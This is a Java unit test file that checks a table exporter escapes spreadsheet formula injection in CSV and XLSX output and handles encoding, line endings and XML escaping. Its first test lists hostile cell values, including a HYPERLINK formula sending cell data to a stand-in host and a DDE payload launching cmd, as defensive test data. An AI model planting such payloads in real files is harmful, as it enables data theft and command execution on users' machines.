package org.wherebuilt.explorer;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** What a spreadsheet makes of our files, and must not. */
class TableTest {

    @Test
    void whatASpreadsheetWouldRunIsTextInTheFile() throws IOException {
        List<Object> hostile = List.of(
                "=HYPERLINK(\"http://x.example/?\"&A1,\"Smyrna\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1,1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "＝1+1",
                List.of("=1", "harmless"));
        for (CSVRecord row : records(table(hostile).csv())) {
            assertThat(row.get("cell")).startsWith("'");
        }
        assertThat(records(table(hostile).csv()).get(0).get("cell")).isEqualTo("'" + hostile.get(0));
        assertThat(workbook(table(hostile).xlsx()))
                .doesNotContain("<f>", "<f ")
                .contains("<t xml:space=\"preserve\">=HYPERLINK(\"http://x.example/?\"&amp;A1,\"Smyrna\")</t>");
    }

    @Test
    void harmlessCellsAreAsTheyAre() throws IOException {
        List<Object> cells = Arrays.asList(
                "Smyrna, \"Tennessee\"",
                "two\nlines",
                "ПоГАЗам 日産",
                "a=b",
                "2012~",
                "MY2012",
                -5,
                true,
                List.of("x", "y"),
                null);
        assertThat(records(table(cells).csv()).stream().map(row -> row.get("cell")))
                .containsExactly(
                        "Smyrna, \"Tennessee\"",
                        "two\nlines",
                        "ПоГАЗам 日産",
                        "a=b",
                        "2012~",
                        "MY2012",
                        "-5",
                        "true",
                        "x; y",
                        "");
    }

    @Test
    void theFileIsWhatExcelTakesForUtf8WithTheEndsOfLinesOfTheStandard() {
        String text = new String(table(List.of("ä", "b")).csv(), UTF_8);
        assertThat(text).isEqualTo("\uFEFFnumber,cell\r\n0,ä\r\n1,b\r\n");
    }

    @Test
    void aWorkbooksDatesAreTextAndItsNumbersNumbers() throws IOException {
        assertThat(workbook(table(List.of("2012-02-20", "2012", "a\u0001<b>")).xlsx()))
                .contains(
                        "<c r=\"A2\"><v>0</v></c><c r=\"B2\" s=\"1\" t=\"inlineStr\"><is><t xml:space=\"preserve\">2012-02-20</t></is></c>")
                .contains("<t xml:space=\"preserve\">2012</t>")
                .contains("<t xml:space=\"preserve\">a&lt;b&gt;</t>");
    }

    private static Table table(List<Object> cells) {
        List<Map<String, Object>> rows = new ArrayList<>();
        for (Object cell : cells) {
            Map<String, Object> row = new LinkedHashMap<>();
            row.put("number", rows.size());
            row.put("cell", cell);
            rows.add(row);
        }
        return new Table(List.of("number", "cell"), rows);
    }

    private static List<CSVRecord> records(byte[] csv) throws IOException {
        String text = new String(csv, UTF_8).substring(1);
        try (CSVParser parser = CSVParser.parse(
                text,
                CSVFormat.RFC4180
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get())) {
            return parser.getRecords();
        }
    }

    private static String workbook(byte[] xlsx) throws IOException {
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(xlsx))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                if (entry.getName().equals("xl/worksheets/sheet1.xml")) {
                    return new String(zip.readAllBytes(), UTF_8);
                }
            }
        }
        throw new AssertionError("no sheet");
    }
}
